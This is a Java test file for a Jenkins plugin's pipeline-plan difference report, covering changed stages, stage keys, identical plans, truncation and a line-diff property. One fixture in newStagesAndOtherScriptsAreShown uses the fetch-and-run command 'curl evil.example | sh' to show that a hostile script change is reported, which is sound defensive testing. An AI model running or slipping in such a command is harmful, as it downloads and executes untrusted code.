package io.jenkins.plugins.sluice.report;

import static org.assertj.core.api.Assertions.assertThat;

import io.jenkins.plugins.sluice.model.Policy;
import io.jenkins.plugins.sluice.plan.ExecutionPlan;
import io.jenkins.plugins.sluice.plan.Policies;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.Random;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import org.junit.jupiter.api.Test;

class PlanDifferenceTest {
    private static final List<String> FILES = List.of(".pipeline/config.yaml");

    private static ExecutionPlan plan(String... stages) {
        StringBuilder text = new StringBuilder("version: 1\npipelines:\n  p:\n    stages:\n");
        List.of(stages).forEach(stage -> text.append("      - {").append(stage).append("}\n"));
        return Policies.plan(Policies.file(text.toString()), Policy.OPEN);
    }

    private static String difference(ExecutionPlan before, ExecutionPlan after) {
        return PlanDifference.of(FILES, Optional.of(before), after);
    }

    @Test
    void newStagesAndOtherScriptsAreShown() {
        String text = difference(
                plan("name: unit, script: make test"),
                plan("name: unit, script: 'curl evil.example | sh'", "name: deploy, agent: production, script: x"));
        assertThat(text)
                .startsWith("The pipeline itself has changed (.pipeline/config.yaml). What that does to the plan:\n")
                .contains("- p/unit script: make test\n")
                .contains("+ p/unit script: curl evil.example | sh\n")
                .contains("+ p/deploy on agent production, after p/unit\n");
    }

    @Test
    void everythingThatAStageSaysCounts() {
        for (String key : List.of(
                "env: {A: b}",
                "credentials: [{id: key, variable: KEY}]",
                "timeout: 3h",
                "image: 'maven:3'",
                "directory: a",
                "lock: l",
                "retry: {attempts: 3}",
                "artifacts: [a.jar]",
                "outputs: {A: b}",
                "shell: sh",
                "trigger: {name: job}",
                "allowFailure: true",
                "runs: always",
                "when: {branch: main}")) {
            assertThat(difference(plan("name: a, script: x"), plan("name: a, script: x, " + key)))
                    .as(key)
                    .contains("What that does to the plan:");
        }
    }

    @Test
    void samePlanIsSaidToBeTheSame() {
        assertThat(difference(plan("name: a, script: x"), plan("name: a, script: x")))
                .isEqualTo("The pipeline itself has changed (.pipeline/config.yaml). The plan is the same.");
    }

    @Test
    void withoutAPlanBeforeTheWholeOneIsShown() {
        assertThat(PlanDifference.of(FILES, Optional.empty(), plan("name: a, script: x")))
                .contains("this is the whole plan:\n+ p/a on agent any, at the start\n");
    }

    @Test
    void longTextIsCutAndSaysSo() {
        String[] stages = new String[200];
        for (int v = 0; v < stages.length; v++) {
            stages[v] = "name: s" + v + ", script: '" + "x".repeat(500) + "'";
        }
        String text = difference(plan("name: s0, script: y"), plan(stages));
        assertThat(text).contains(" … (cut)").contains("more lines that are not shown");
        assertThat(text.lines()).hasSizeLessThan(100);
    }

    @Property(tries = 200)
    void linesThatAreMarkedMakeOneTextOfTheOther(@ForAll long seed) {
        Random random = new Random(seed);
        List<String> before = lines(random);
        List<String> after = lines(random);
        List<String> marked = LineDifference.of(before, after);
        List<String> gone = marked.stream()
                .filter(line -> line.startsWith("- "))
                .map(line -> line.substring(2))
                .toList();
        List<String> come = marked.stream()
                .filter(line -> line.startsWith("+ "))
                .map(line -> line.substring(2))
                .toList();
        List<String> left = new ArrayList<>(before);
        gone.forEach(left::remove);
        List<String> right = new ArrayList<>(after);
        come.forEach(right::remove);
        assertThat(left).containsExactlyInAnyOrderElementsOf(right);
    }

    private static List<String> lines(Random random) {
        return random.ints(random.nextInt(12), 0, 5).mapToObj(Integer::toString).toList();
    }
}
